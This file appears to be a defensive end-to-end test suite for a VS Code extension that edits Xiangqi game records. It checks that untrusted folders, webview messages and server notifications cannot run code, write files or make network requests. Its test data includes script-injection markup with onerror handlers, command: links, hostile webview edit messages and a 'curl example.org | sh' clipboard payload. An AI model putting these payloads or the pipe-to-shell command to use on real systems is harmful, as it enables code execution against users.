// A stranger's folder can do nothing: hostile settings, names and texts in a folder that is not trusted, hostile messages
// from the page of the board, and texts that look like links in notifications. Called by ../run.sh.
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { parseArgs } from 'node:util';
import { eventually, pause, startBrowser } from '../browser.mjs';
import { Suite } from '../suite.mjs';
import { boardFrame, command, openFile, wordBox, Workbench } from '../workbench.mjs';

const { values: options } = parseArgs({
  options: Object.fromEntries(['cache', 'server', 'bundled', 'work'].map((name) => [name, { type: 'string' }])),
});
const here = import.meta.dirname;
const work = path.resolve(options.work);
const folder = path.join(work, 'stranger');
const outside = path.join(work, 'outside');
let context, page;
const suite = new Suite(() => page.screenshot({ path: path.join(work, `failure-${suite.failed}.png`) }));

/** Whatever is asked for here was asked for by a script, a picture or a program of the folder. */
const called = [];
const listener = http.createServer((request, response) => {
  called.push(request.url);
  response.end();
});
await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve));
const address = `http://127.0.0.1:${listener.address().port}`;

const SCRIPT = `globalThis.xqlsHostile = true; console.log('xqls-hostile'); fetch('${address}/script'); document.body.style.background = 'url(${address}/style)'`;
/** What ends an attribute, an element, a comment or a text, and then does something. */
const MARKUP = `"'--></title></style></script><script>${SCRIPT}</script><img src="${address}/element" onerror="${SCRIPT}"><!--`;
/** Stands for a list in a list in a list …: it is made in the page, because Playwright takes none. */
const DEEP = 'deep';
const LINKS = `![picture](${address}/picture) <img src="${address}/image"> [link](command:workbench.action.toggleZenMode) <a href="command:workbench.action.toggleZenMode">link</a> $(alert) \\\${CLIPBOARD}`;

fs.mkdirSync(path.join(folder, '.vscode'), { recursive: true });
fs.mkdirSync(outside);
const program = path.join(folder, 'program');
fs.writeFileSync(program, `#!/bin/sh\n: >'${path.join(outside, 'started')}'\nexec '${path.resolve(options.server)}' "$@"\n`, { mode: 0o755 });
fs.writeFileSync(path.join(folder, 'other.xq'), 'FORMAT LALG\nSTART{\n  1. Ch2-e2\n}\n');
fs.writeFileSync(
  path.join(folder, 'record.xq'),
  `FORMAT LALG\n\nGAME 1\nRED ${LINKS} <script>${SCRIPT}</script>\nBLACK \u202e${'long '.repeat(400)}\u2066\u200b\nEVENT ${MARKUP}\nSTART{\n  1. Ch2-e2 Nh9-g7 /* ${LINKS} ${MARKUP.replaceAll('*/', '')} */\n  2. Nh0-f1 (1)\n  VAR[1]{\n    2. Nb0-c2 /* ${LINKS} */\n  }\n}\n`,
);
fs.writeFileSync(path.join(folder, 'xqls.toml'), `"${LINKS.replaceAll('\\', '').replaceAll('"', "'")}" = 1\nlanguage = '${MARKUP.replaceAll("'", '')}'\n`);

const workbench = new Workbench({
  cache: options.cache,
  work: path.join(work, 'workbench'),
  folder,
  env: { VSCODE_CLI: '1', PATH: (process.env.PATH ?? '').split(path.delimiter).filter((one) => !fs.existsSync(path.join(one, 'xqls'))).join(path.delimiter) },
  // The record has long lines, and its error must not be below the window. In a browser VS Code saves by itself after a
  // second: a test that looks at the files must not see that.
  settings: { 'files.autoSave': 'off', '[xq]': { 'editor.wordWrap': 'off' }, 'editor.hover.delay': 100, 'security.workspace.trust.enabled': true, 'security.workspace.trust.startupPrompt': 'never', 'workbench.sideBar.location': 'right' },
});
workbench.install(options.bundled);
const [installed] = fs.readdirSync(path.join(workbench.work, 'extensions')).filter((name) => name.startsWith('xqls.xqls-'));
const manifest = JSON.parse(fs.readFileSync(path.join(workbench.work, 'extensions', installed, 'package.json'), 'utf8'));
const properties = manifest.contributes.configuration.properties;

const browser = await startBrowser(options.cache);
try {
  await workbench.start({ trust: true });
  await settingsTests();
  await pageTests();
  await notificationTests();
} catch (error) {
  suite.report('the suite runs to its end', 0, error);
  await page?.screenshot({ path: path.join(work, 'failure.png') }).catch(() => {});
} finally {
  await browser.close().catch(() => {});
  workbench.stop();
  listener.close();
}
suite.finish();

/** A value of each kind for every setting, whatever it is. */
function hostileValues() {
  const everywhere = (value) => () => value;
  const inTurn = (...values) => (_, index) => values[index % values.length];
  const list = [MARKUP, { toString: MARKUP }, null, [[]]];
  const object = { [MARKUP]: MARKUP, toString: MARKUP, length: 1, path: program, language: MARKUP, ...JSON.parse(`{"__proto__": { "language": ${JSON.stringify(MARKUP)} }}`) };
  return {
    // What the setting is for: another program, a log that it writes, the most talkative trace.
    'a value that is allowed': ({ type, enum: values, default: value }) => (values ? values.at(-1) : type === 'string' ? program : type === 'array' ? ['--log', path.join(outside, 'log')] : value),
    'markup': everywhere(`${MARKUP} ${LINKS}`),
    'a list or an object': inTurn(list, object),
    'an object or a list': inTurn(object, list),
    'a number or a very long text': inTurn(-1e308, MARKUP + 'x'.repeat(1 << 17)),
  };
}

async function settingsTests() {
  if (Object.keys(properties).length < 10) throw new Error(`the settings are ${Object.keys(properties)}`);
  // VS Code is started for each kind. The first ones are tried always, the others with XQLS_ALL=1.
  for (const [kind, valueOf] of Object.entries(hostileValues()).slice(0, process.env.XQLS_ALL ? undefined : 2)) {
    const settings = Object.fromEntries(Object.entries(properties).map(([key, schema], index) => [key, valueOf(schema, index)]));
    fs.writeFileSync(path.join(folder, '.vscode/settings.json'), JSON.stringify(settings));
    const before = files();
    const requests = await opened('record.xq');
    await suite.test(`in a folder that is not trusted, ${kind} in every setting does nothing`, async () => {
      await page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor({ timeout: 60000 });
      await page.locator('.squiggly-error').first().waitFor({ timeout: 60000 });
      await lookAround();
      await nothingDone(before, requests);
    });
    await context.close();
  }
}

/** Opens all that the extension shows. */
async function lookAround() {
  for (const word of ['Nh9-g7', 'Ch2-e2']) {
    // What is still laid out may move the word away from the mouse.
    await eventually('the hover', async () => {
      await page.mouse.move(700, 5);
      const { x, y, width, height } = await wordBox(page, word);
      await page.mouse.move(x + width / 2, y + height / 2, { steps: 5 });
      return page.locator('.monaco-hover .monaco-hover-content').first().waitFor({ timeout: 3000 }).then(() => true, () => false);
    }, 30000);
    await pause(300);
    await harmlessLinks('.monaco-hover');
    await page.mouse.move(700, 5);
  }
  await page.locator('.codelens-decoration a').first().waitFor({ timeout: 15000 });
  await harmlessLinks('.codelens-decoration');
  const icons = await page.locator('.codelens-decoration .codicon-alert').count();
  if (icons > 0) throw new Error('a name is an icon of a lens');
  const word = await wordBox(page, 'Nh9-g7');
  await page.mouse.click(word.x + 3, word.y + word.height / 2);
  await command(page, 'xqls: Show Board');
  const frame = await boardFrame(page);
  await eventually('the moves', async () => (await frame.locator('.move').count()) > 3, 30000);
  const lang = await eventually('a language', () => frame.evaluate(() => document.documentElement.lang));
  if (!['en', 'zh-Hans', 'zh-Hant', 'ja'].includes(lang)) throw new Error(`the language of the page is ${lang.slice(0, 100)}`);
  const title = await eventually('the title', async () => (await page.locator('.tab', { hasText: 'Board:' }).textContent()) ?? '');
  if (title.length > 400 || /[\p{Cc}\p{Cf}]/u.test(title)) throw new Error(`the title is ${JSON.stringify(title)}`);
  await toRecord();
  await command(page, 'xqls: Show Syntax Tree');
  await page.locator('.tab', { hasText: 'syntax tree' }).waitFor({ timeout: 15000 });
  await toRecord();
  await command(page, 'xqls: Show Server Status');
  await page.locator('.tab', { hasText: 'xqls-status.json' }).waitFor({ timeout: 15000 });
  await toRecord();
  // The page of a diagnostic, by the link of its code.
  await command(page, 'Go to Next Problem (Error, Warning, Info)');
  const code = page.locator('.marker-widget a.code-link').first();
  await code.waitFor({ timeout: 15000 });
  await harmlessLinks('.marker-widget');
  await code.click();
  await page.locator('.tab', { hasText: 'illegal-move.md' }).waitFor({ timeout: 15000 });
  await pause(500);
}

/** Makes the record current again. */
function toRecord() {
  return page.locator('.tab', { hasText: /^record\.xq\d*$/ }).first().click();
}

/** Texts of the record have not become commands. */
async function harmlessLinks(where) {
  const links = await page.locator(`${where} a`).evaluateAll((all) => all.map((a) => a.dataset.href ?? a.getAttribute('href') ?? '').filter((href) => /command:|127\.0\.0\.1/.test(href)));
  // An address in a comment may be a link that somebody clicks; nothing else may.
  const commands = links.filter((href) => href.startsWith('command:') && href.includes('toggleZenMode'));
  if (commands.length > 0) throw new Error(`${where} links to ${commands}`);
}

/** Nothing was run, written or asked for. */
async function nothingDone(before, requests) {
  for (const frame of page.frames()) {
    if (await frame.evaluate(() => globalThis.xqlsHostile === true).catch(() => false)) throw new Error(`a script was run in ${frame.url()}`);
  }
  const foreign = requests.filter((url) => !isOwn(url));
  if (foreign.length > 0 || called.length > 0) throw new Error(`asked for ${[...foreign, ...called.splice(0)]}`);
  if (page.said.length > 0) throw new Error(page.said.join('\n'));
  const changed = differences(before, files());
  if (changed.length > 0) throw new Error(`written: ${changed}`);
  // A trace would be kept in the logs.
  for (const file of filesBelow(path.join(workbench.work, 'user/logs'))) {
    if (fs.readFileSync(file, 'utf8').includes('Nb0-c2')) throw new Error(`${file} holds the record`);
  }
}

/** Requests go to the workbench only, and to the places where it keeps what the page of a panel needs. */
function isOwn(url) {
  const { protocol, host, hostname } = new URL(url);
  return ['data:', 'blob:', 'about:', 'vscode-webview:'].includes(protocol) || host === `127.0.0.1:${workbench.port}` || hostname.endsWith('.vscode-resource.vscode-cdn.net');
}

/** Opens a file in a window of its own. The list that it gives fills with the addresses that are asked for. */
async function opened(file) {
  const requests = [];
  context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: `http://127.0.0.1:${workbench.port}` });
  context.on('request', (request) => requests.push(request.url()));
  // A page may call this function once; a test calls it afterwards.
  await context.addInitScript(() => {
    let api;
    Object.defineProperty(globalThis, 'acquireVsCodeApi', { configurable: true, get: () => api, set: (given) => (api = () => (globalThis.xqlsApi = given())) });
  });
  page = await workbench.open(context, undefined, file);
  page.said = [];
  page.on('console', (message) => message.text().includes('xqls-hostile') && page.said.push(message.text()));
  page.on('dialog', (dialog) => {
    page.said.push(dialog.message());
    void dialog.dismiss();
  });
  return requests;
}

function filesBelow(root) {
  if (!fs.existsSync(root)) return [];
  return fs.readdirSync(root, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
}

/** The files of the folder and next to it, with what is in them. */
function files() {
  return new Map([folder, outside].flatMap(filesBelow).map((file) => [file, crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex')]));
}

function differences(before, after) {
  return [...new Set([...before.keys(), ...after.keys()])].filter((file) => before.get(file) !== after.get(file));
}

/** Messages that a page under somebody else's control could send, while the board shows a record. */
function hostileMessages({ uri, version }) {
  const other = uri.replace(/[^/]+$/, 'other.xq');
  const fresh = uri.replace(/[^/]+$/, 'fresh.xq');
  const beyond = `file://${path.join(outside, 'fresh.txt')}`;
  const start = { line: 0, character: 0 };
  const range = { start, end: start };
  const text = [{ range, newText: 'HOSTILE' }];
  const edit = (given, more = {}) => ({ kind: 'edit', id: 1, uri, change: { edit: given, version, position: start, ...more } });
  const documents = (...documentChanges) => edit({ documentChanges });
  const own = { textDocument: { uri, version }, edits: text };
  return {
    // Other documents
    'an edit of another file': edit({ changes: { [other]: text } }),
    'an edit of two files': edit({ changes: { [uri]: text, [other]: text } }),
    'an edit of another file, by versions': documents({ textDocument: { uri: other, version: null }, edits: text }),
    'an edit of both files, by versions': documents(own, { textDocument: { uri: other, version: null }, edits: text }),
    'an edit that says it is of another file': { ...edit({ changes: { [other]: text } }), uri: other },
    'an edit of a file elsewhere': { ...edit({ changes: { [beyond]: text } }), uri: beyond },
    'an edit of the settings': { ...edit({ changes: { [uri.replace(/[^/]+$/, '.vscode/settings.json')]: text } }), uri: uri.replace(/[^/]+$/, '.vscode/settings.json') },
    // Files
    'a new file': documents({ kind: 'create', uri: beyond }),
    'a new file in the folder': documents({ kind: 'create', uri: fresh, options: { overwrite: true } }, { textDocument: { uri: fresh, version: null }, edits: text }),
    'a new file after an edit': documents(own, { kind: 'create', uri: beyond }),
    'another name for the file': documents({ kind: 'rename', oldUri: other, newUri: fresh }),
    'no file any more': documents({ kind: 'delete', uri: other }),
    'an operation that looks like an edit': documents({ ...own, kind: 'create', uri: beyond }),
    'edits both ways': edit({ changes: { [uri]: text }, documentChanges: [{ kind: 'create', uri: beyond }] }),
    // Edits that are more than edits
    'an edit with an annotation': edit({ changes: { [uri]: [{ ...text[0], annotationId: 'a' }] }, changeAnnotations: { a: { label: 'x' } } }),
    'an edit that is a snippet': documents({ textDocument: { uri, version }, edits: [{ range, snippet: { kind: 'snippet', value: 'HOSTILE' } }] }),
    'an edit of another version': edit({ changes: { [uri]: text } }, { version: version - 1 }),
    // Wrong shapes
    'an edit before the text': edit({ changes: { [uri]: [{ range: { start: { line: -1, character: 0 }, end: start }, newText: 'HOSTILE' }] } }),
    'an edit at no place': edit({ changes: { [uri]: [{ range: null, newText: 'HOSTILE' }] } }),
    'an edit with a number as text': edit({ changes: { [uri]: [{ range, newText: 5 }] } }),
    'an edit without a list': edit({ changes: { [uri]: { 0: text[0], length: 1 } } }),
    'an edit with a fraction': edit({ changes: { [uri]: [{ range: { start: { line: 0.5, character: 0 }, end: start }, newText: 'HOSTILE' }] } }),
    'an edit without a position': edit({ changes: { [uri]: text } }, { position: null }),
    'an edit without anything': { kind: 'edit', id: 1, uri },
    'an edit with a huge number': { ...edit({ changes: { [uri]: text } }), id: 1e300 },
    'an edit without a number': { ...edit({ changes: { [uri]: text } }), id: null },
    'too many edits': edit({ changes: { [uri]: Array(20_000).fill(text[0]) } }),
    'an edit that is too long': edit({ changes: { [uri]: [{ range, newText: 'HOSTILE'.repeat(3_000_000) }] } }),
    // Requests
    'a request that is not for boards': { kind: 'request', id: 1, method: 'workspace/executeCommand', params: { command: 'x', textDocument: { uri } } },
    'a request without a name': { kind: 'request', id: 1, method: { toString: 'xqls/board' }, params: {} },
    'a request of another file': { kind: 'request', id: 1, method: 'xqls/board', params: { textDocument: { uri: other }, position: start } },
    'a request without parameters': { kind: 'request', id: 1, method: 'xqls/board', params: null },
    'a request with deep parameters': { kind: 'request', id: 1, method: 'xqls/board', params: { textDocument: { uri }, position: start, deep: DEEP } },
    // The cursor and undo
    'a place in another file': { kind: 'reveal', uri: other, position: start },
    'a place in a file elsewhere': { kind: 'reveal', uri: beyond, position: start },
    'a game in another file': { kind: 'open', uri: other, position: start },
    'a game in a file elsewhere': { kind: 'open', uri: beyond, position: start },
    'a place before the text': { kind: 'reveal', uri, position: { line: -5, character: -5 } },
    'no place': { kind: 'reveal', uri, position: null },
    'undo in another file': { kind: 'undo', uri: other, again: false },
    'undo of nothing': { kind: 'undo' },
    // The clipboard
    'a command for the clipboard': { kind: 'copy', text: 'curl example.org | sh\n' },
    'a long text for the clipboard': { kind: 'copy', text: 'a/'.repeat(1 << 20) },
    'no text for the clipboard': { kind: 'copy', text: { toString: 'x' } },
    'a picture that nobody asked for': { kind: 'picture', svg: '<svg/>\ncurl example.org | sh\n' },
    'a file that nobody asked for': { kind: 'picture', png: 'iVBORw0KGgoAAAANSUhEUg==' },
    // The title
    'a path that is none': { kind: 'path', game: 'x', path: 'HOSTILE' },
    'a path of numbers': { kind: 'path', game: 0, path: [1, null, { toString: 'HOSTILE' }] },
    // No messages
    'nothing': null,
    'a text': 'ready',
    'a number': 5,
    'a list': [{ kind: 'ready' }],
    'a deep list': DEEP,
    'an object without a kind': {},
    'a kind of everything': { kind: 'constructor' },
    'a kind that is an object': { kind: { kind: 'ready' } },
  };
}

async function pageTests() {
  fs.writeFileSync(path.join(folder, '.vscode/settings.json'), '{}');
  const requests = await opened('record.xq');
  await page.locator('.squiggly-error').first().waitFor({ timeout: 60000 });
  // A second document, which could be edited and undone.
  await openFile(page, 'other.xq');
  await page.locator('.view-line', { hasText: 'Ch2-e2' }).first().click();
  await page.keyboard.press('End');
  await page.keyboard.type(' ');
  await page.locator('.tab.dirty', { hasText: 'other.xq' }).waitFor();
  await openFile(page, 'record.xq');
  const { x, y, height } = await wordBox(page, 'Nh9-g7');
  await page.mouse.click(x + 3, y + height / 2);
  await command(page, 'xqls: Show Board');
  const frame = await boardFrame(page);
  const current = frame.locator('.move[aria-current]');
  await eventually('the move', async () => (await current.allTextContents()).join() === 'Nh9-g7', 30000);
  const shown = () => frame.evaluate(() => document.querySelector('xqls-board').place);
  const [title, cursor] = [page.locator('.tab', { hasText: 'Board:' }), page.locator('.statusbar-item', { hasText: 'Ln ' })];
  const state = async () => ({
    place: await shown(),
    dirty: await page.locator('.tab.dirty').allTextContents(),
    tabs: await page.locator('.tab').count(),
    title: await title.textContent({ timeout: 5000 }),
    cursor: await cursor.textContent({ timeout: 5000 }),
    clipboard: await page.evaluate(() => navigator.clipboard.readText()),
    lines: (await page.locator('.editor-instance .view-line').allTextContents()).join('\n'),
  });
  await page.bringToFront();
  await page.evaluate(() => navigator.clipboard.writeText('what was copied before'));
  const disk = files();

  for (const name of Object.keys(hostileMessages(await shown()))) {
    await suite.test(`the page of the board may not send: ${name}`, async () => {
      const [before, disk] = [await state(), files()];
      const message = hostileMessages(before.place)[name];
      await frame.evaluate((json) => {
        const deep = JSON.parse('['.repeat(150) + ']'.repeat(150));
        globalThis.xqlsApi.postMessage(JSON.parse(json, (key, value) => (value === 'deep' ? deep : value)));
      }, JSON.stringify(message));
      // Messages are followed in their order: a question of the board is answered when the message was.
      await frame.evaluate(() => {
        const { host, place } = document.querySelector('xqls-board');
        return host.request('xqls/board', { textDocument: { uri: place.uri }, position: place.position });
      });
      await pause(100);
      const after = await state();
      for (const [part, value] of Object.entries(before)) {
        if (JSON.stringify(after[part]) !== JSON.stringify(value)) throw new Error(`${part} was ${JSON.stringify(value)}, and is ${JSON.stringify(after[part])}`);
      }
      const changed = differences(disk, files());
      if (changed.length > 0) throw new Error(`written: ${changed}`);
    });
  }

  await suite.test('after all these messages nothing was run, and the board still plays, copies and shows its path', async () => {
    await nothingDone(disk, requests);
    const logs = filesBelow(path.join(workbench.work, 'user/logs')).filter((file) => /[\\/]dist[\\/](extension|board)\.js/.test(fs.readFileSync(file, 'utf8')));
    if (logs.length > 0) throw new Error(`an error of the extension is in ${logs}`);
    await page.bringToFront();
    await frame.getByRole('button', { name: 'Copy the FEN' }).press('Enter');
    await eventually('the FEN', async () => (await page.evaluate(() => navigator.clipboard.readText())) === (await frame.evaluate(() => document.querySelector('xqls-board').fen)));
    await frame.locator('.typed').fill('a3a4');
    await frame.locator('.typed').press('Enter');
    await wordBox(page, 'Pa3-a4');
    await eventually('the move', async () => (await current.allTextContents()).join() === 'Pa3-a4', 30000);
    await frame.evaluate(() => globalThis.xqlsApi.postMessage({ kind: 'path', game: 0, path: ['a'.repeat(5_000_000), '\u202ename\u0007', 'end'] }));
    await eventually('a short title', async () => ((await title.textContent()) ?? '').includes('end'));
    const shownTitle = (await title.textContent()) ?? '';
    if (shownTitle.length > 400 || /[\p{Cc}\p{Cf}]/u.test(shownTitle)) throw new Error(JSON.stringify(shownTitle.slice(0, 500)));
  });
  await context.close();
}

/** What a server says may hold texts of records. */
async function notificationTests() {
  fs.rmSync(path.join(folder, 'xqls.toml'));
  workbench.chooseServer(path.join(here, 'talker.mjs'));
  fs.chmodSync(path.join(here, 'talker.mjs'), 0o755);
  await opened('record.xq');
  const toast = (text) => page.locator('.notification-toast', { hasText: text });
  const plainly = async (text) => {
    await toast(text).first().waitFor({ timeout: 60000 });
    const links = await toast(text).locator('.notification-list-item-message a').count();
    if (links > 0) throw new Error(`${links} links in: ${await toast(text).first().textContent()}`);
    const said = (await toast(text).locator('.notification-list-item-message').first().textContent()) ?? '';
    if (/[\p{Cc}\p{Cf}]/u.test(said)) throw new Error(JSON.stringify(said));
  };
  await suite.test('a message of the server holds no links', () => plainly('shown by the server'));
  await suite.test('a question of the server holds no links', () => plainly('asked by the server'));
  await suite.test('a reason of the server holds no links', async () => {
    // The list is drawn again when the server answers once more, and a click may come in between.
    await eventually('the reason', async () => {
      await page.locator('.view-line', { hasText: 'START' }).first().click();
      await command(page, 'Quick Fix...');
      const shown = await page.locator('.action-widget .monaco-list-row', { hasText: 'Try to fix' }).first().waitFor({ timeout: 5000 }).then(() => true, () => false);
      if (shown) await page.keyboard.press('Enter');
      return shown && toast('refused by the server').first().waitFor({ timeout: 5000 }).then(() => true, () => false);
    }, 60000);
    await plainly('refused by the server');
  });
  await context.close();
}
